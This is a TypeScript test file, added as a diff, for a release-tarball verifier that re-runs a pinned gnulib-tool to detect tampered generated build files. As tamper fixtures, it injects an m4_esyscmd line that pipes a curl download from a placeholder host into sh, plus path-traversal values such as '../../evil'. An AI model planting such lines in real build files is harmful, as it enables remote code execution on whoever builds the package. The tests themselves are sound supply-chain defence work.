@@ -1,0 +1,147 @@
+/**
+ * gnulib-tool's own outputs proved by running the pinned gnulib's gnulib-tool again in the sandbox (issue 11),
+ * with real components only: Debian's gnulib (/usr/share/gnulib, installed by scripts/install-system-deps.sh)
+ * committed into a git repository built here as the pinned submodule, a small project using one module
+ * (c-ctype), its release tree made by that gnulib-tool run for real, git, tar and bubblewrap.
+ *
+ * What a tamperer controls: every byte of the tarball, so the generated files (m4/gnulib-comp.m4,
+ * lib/Makefile.am, the untracked m4/gnulib-cache.m4) and the invocation they record. The proof reads only the
+ * invocation from the tarball, as data (known options, modules of the pinned gnulib, directories inside the
+ * project, local dirs tracked); gnulib-tool comes from the pinned commit of our clone, the project from the
+ * tag. Tampered twins: a line added to gl_INIT (construct-free, and an esyscmd) → REGENERATION_MISMATCH, exit 1;
+ * a recorded invocation naming a local dir or a module outside the tag → UNPROVED_BUILD_OUTPUTS (high), exit 1;
+ * no pinned gnulib to run → UNPROVED_BUILD_OUTPUTS whose remedy is --submodule gnulib=REPO, exit 1.
+ */
+import { execFileSync, spawnSync } from 'node:child_process';
+import { cpSync, existsSync, mkdirSync, readFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { Finding } from '../../src/core/findings.js';
+import { makeTar } from '../helpers/archives.js';
+import { gitEnv, makeRepo, writeFiles, type FileSpec } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const GNULIB = '/usr/share/gnulib';
+const cli = resolve(__dirname, '../../dist/cli.js');
+
+function runCli(args: string[]) {
+  expect(existsSync(cli), 'dist/cli.js is missing: run `npm run build` (npm test does)').toBe(true);
+  const p = spawnSync(process.execPath, [cli, ...args, '--format', 'json'], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, timeout: 300_000 });
+  return { code: p.status, stderr: p.stderr, findings: (p.stdout ? JSON.parse(p.stdout).findings : []) as Finding[] };
+}
+
+const CONFIGURE_AC = 'AC_INIT([proj], [1.0])\nAC_CONFIG_AUX_DIR([build-aux])\nAC_CONFIG_MACRO_DIR([m4])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\ngl_EARLY\ngl_INIT\nAC_CONFIG_FILES([Makefile lib/Makefile])\nAC_OUTPUT\n';
+const ARGS = ['--lib=libgnu', '--source-base=lib', '--m4-base=m4', '--doc-base=doc', '--tests-base=tests', '--aux-dir=build-aux', '--no-conditional-dependencies', '--no-libtool', '--macro-prefix=gl', 'c-ctype'];
+const OUTPUTS = ['lib/Makefile.am', 'm4/gnulib-cache.m4', 'm4/gnulib-comp.m4'];
+
+describe('gnulib-tool outputs, proved by the pinned gnulib-tool', () => {
+  expect(existsSync(join(GNULIB, 'gnulib-tool')), `${GNULIB}/gnulib-tool is missing: run scripts/install-system-deps.sh (Debian package gnulib)`).toBe(true);
+  const root = tempDir();
+
+  // The pinned gnulib: Debian's gnulib tree committed as it is (fixed dates).
+  const g = makeRepo(join(root, 'gnulib'));
+  cpSync(GNULIB, g.dir, { recursive: true });
+  execFileSync('git', ['add', '-A'], { cwd: g.dir, env: gitEnv(), stdio: 'ignore' });
+  execFileSync('git', ['commit', '-q', '-m', 'gnulib'], { cwd: g.dir, env: gitEnv(), stdio: 'ignore' });
+  const pinned = g.git(['rev-parse', 'HEAD']).trim();
+
+  // The project: configure.ac and Makefile.am tracked, gnulib pinned as a submodule whose .gitmodules URL is not reachable.
+  const p = makeRepo(join(root, 'proj'));
+  p.commit({ '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = git://127.0.0.1:1/gnulib.git\n', 'configure.ac': CONFIGURE_AC, 'Makefile.am': 'SUBDIRS = lib\nACLOCAL_AMFLAGS = -I m4\n' });
+  p.git(['update-index', '--add', '--cacheinfo', `160000,${pinned},gnulib`]);
+  p.git(['commit', '-q', '-m', 'pin gnulib']);
+  p.tag('v1.0', { message: 'release 1.0' });
+
+  // The release tree as bootstrap leaves it: the tag's files plus what gnulib-tool --import wrote (copies and outputs).
+  const made = join(root, 'made', 'proj-1.0');
+  mkdirSync(made, { recursive: true });
+  writeFiles(made, { 'configure.ac': CONFIGURE_AC, 'Makefile.am': 'SUBDIRS = lib\nACLOCAL_AMFLAGS = -I m4\n' });
+  execFileSync(join(GNULIB, 'gnulib-tool'), ['--import', '--no-changelog', ...ARGS], { cwd: made, stdio: 'ignore', env: { ...process.env, LC_ALL: 'C' } });
+  const shipped = Object.fromEntries(OUTPUTS.map((o) => [o, readFileSync(join(made, o), 'utf8')]));
+
+  let n = 0;
+  function tarball(change: Record<string, FileSpec> = {}) {
+    const dir = join(root, `t${++n}`, 'proj-1.0');
+    cpSync(made, dir, { recursive: true });
+    writeFiles(dir, change);
+    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') });
+  }
+  const verify = (t: string, extra: string[] = ['--submodule', `gnulib=${g.dir}`]) => runCli([t, '--repo', p.dir, '--cache-dir', join(root, `c${n}`), ...extra]);
+  const at = (fs: Finding[], path: string) => fs.find((f) => f.path === path);
+  const failing = (fs: Finding[]) => fs.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => [f.path, f.code, f.severity]);
+
+  it('the release records its invocation (the fixture is what gnulib-tool wrote)', () => {
+    expect(shipped['m4/gnulib-cache.m4']).toContain('# gnulib-tool --import \\\n#  --lib=libgnu \\\n');
+    expect(shipped['m4/gnulib-comp.m4']).toContain('AC_DEFUN([gl_INIT],\n[\n');
+  });
+
+  it('untampered: every gnulib-tool output reproduced byte for byte by the pinned gnulib-tool (proof names the commit and the invocation); exit 0', () => {
+    const r = verify(tarball());
+    expect(r.stderr).toBe('');
+    expect(failing(r.findings)).toEqual([]);
+    expect(r.code).toBe(0);
+    for (const o of OUTPUTS) {
+      expect(at(r.findings, o), o).toMatchObject({
+        code: 'GENERATED_BY_AUTOTOOLS',
+        severity: 'info',
+        evidence: { tool: 'gnulib-tool', proof: { proved: true, method: 'gnulib-tool', submodule: 'gnulib', commit: pinned, invocation: { source: 'm4/gnulib-cache.m4', args: ['--lib=libgnu', '--source-base=lib', '--m4-base=m4', '--doc-base=doc', '--tests-base=tests', '--aux-dir=build-aux', '--no-conditional-dependencies', '--no-libtool', '--macro-prefix=gl', 'c-ctype'] } } },
+      });
+    }
+    expect(at(r.findings, 'lib/c-ctype.h')).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info' });
+  });
+
+  it('one construct-free line added to gl_INIT in gnulib-comp.m4: REGENERATION_MISMATCH (high) with the line; exit 1', () => {
+    const comp = shipped['m4/gnulib-comp.m4']!.replace('AC_DEFUN([gl_INIT],\n[\n', 'AC_DEFUN([gl_INIT],\n[\n  LIBS="$LIBS -lpayload"\n');
+    const r = verify(tarball({ 'm4/gnulib-comp.m4': comp }));
+    expect(r.code).toBe(1);
+    expect(failing(r.findings)).toEqual([['m4/gnulib-comp.m4', 'REGENERATION_MISMATCH', 'high']]);
+    const f = at(r.findings, 'm4/gnulib-comp.m4')!;
+    expect(f.evidence).toMatchObject({ step: 'gnulib-tool', tool: 'gnulib-tool', version: `gnulib ${pinned.slice(0, 12)}`, produced: true, differingLines: 1 });
+    expect(f.diff?.unified).toContain('+  LIBS="$LIBS -lpayload"');
+    // the other outputs are still proved
+    expect(at(r.findings, 'lib/Makefile.am')).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS', evidence: { proof: { proved: true } } });
+  });
+
+  it('an esyscmd pulling a payload added to gl_INIT: critical', () => {
+    const comp = shipped['m4/gnulib-comp.m4']!.replace('AC_DEFUN([gl_INIT],\n[\n', 'AC_DEFUN([gl_INIT],\n[\n  m4_esyscmd([sh -c "$(curl -fsSL https://example.invalid/x)"])\n');
+    const r = verify(tarball({ 'm4/gnulib-comp.m4': comp }));
+    expect(r.code).toBe(1);
+    const f = at(r.findings, 'm4/gnulib-comp.m4')!;
+    expect(f).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'critical', evidence: { differingLines: 1 } });
+    expect(f.constructs?.map((c) => c.kind)).toEqual(['download-to-shell']);
+  });
+
+  it('gnulib-cache.m4 recording a local dir outside the tag: the invocation is refused, the outputs are unproved (high); exit 1', () => {
+    const cache = shipped['m4/gnulib-cache.m4']!.replace('# gnulib-tool --import \\\n', '# gnulib-tool --import \\\n#  --local-dir=../../evil \\\n').replace(/^gl_LOCAL_DIR\(\[\]\)/m, 'gl_LOCAL_DIR([../../evil])');
+    const r = verify(tarball({ 'm4/gnulib-cache.m4': cache }));
+    expect(r.code).toBe(1);
+    expect(failing(r.findings)).toEqual([['.', 'UNPROVED_BUILD_OUTPUTS', 'high']]);
+    expect(at(r.findings, '.')!.evidence).toMatchObject({
+      files: OUTPUTS,
+      reason: { kind: 'not-regenerable', args: { cause: { kind: 'gnulib-tool-label', args: { layoutFrom: 'm4/gnulib-comp.m4', miss: { kind: 'invocation-refused', source: 'm4/gnulib-cache.m4', arg: '--local-dir=../../evil', why: 'directory' } } } } },
+    });
+  });
+
+  it('gnulib-cache.m4 recording a module the pinned gnulib lacks (a module directory outside the tag): refused, high; exit 1', () => {
+    const cache = shipped['m4/gnulib-cache.m4']!.replace('#  c-ctype\n', '#  c-ctype \\\n#  ../../../tmp/evil\n');
+    const r = verify(tarball({ 'm4/gnulib-cache.m4': cache }));
+    expect(r.code).toBe(1);
+    expect(at(r.findings, '.')!.evidence).toMatchObject({ reason: { args: { cause: { args: { miss: { kind: 'invocation-refused', arg: '../../../tmp/evil', why: 'module' } } } } } });
+  });
+
+  it('no pinned gnulib to run (the .gitmodules URL unreachable, no --submodule): unproved, the remedy names --submodule; exit 1', () => {
+    const t = tarball();
+    const r = verify(t, []);
+    expect(r.code).toBe(1);
+    const u = at(r.findings, '.')!;
+    expect(u).toMatchObject({ code: 'UNPROVED_BUILD_OUTPUTS', severity: 'high', evidence: { reason: { kind: 'gnulib-unavailable' }, remedies: [{ kind: 'submodule-gnulib' }], files: OUTPUTS } });
+    const text = spawnSync(process.execPath, [cli, t, '--repo', p.dir, '--cache-dir', join(root, `c${n}`), '--no-color'], { encoding: 'utf8', timeout: 300_000 }).stdout;
+    expect(text).toContain('to prove: distdiff verify … --submodule gnulib=REPO (a clone of gnulib holding the commit the revision pins) — Makefile.am, gnulib-cache.m4, gnulib-comp.m4 not proved: gnulib-tool outputs, and no gnulib pinned by the revision could be read to run its gnulib-tool [lib/Makefile.am, m4/gnulib-cache.m4, m4/gnulib-comp.m4]');
+  });
+
+  it('--no-regenerate: gnulib-tool is not run either; the outputs stay unproved; exit 1', () => {
+    const r = verify(tarball(), ['--submodule', `gnulib=${g.dir}`, '--no-regenerate']);
+    expect(r.code).toBe(1);
+    expect(at(r.findings, '.')).toMatchObject({ code: 'UNPROVED_BUILD_OUTPUTS', evidence: { reason: { kind: 'regeneration-off' }, files: OUTPUTS } });
+  });
+});
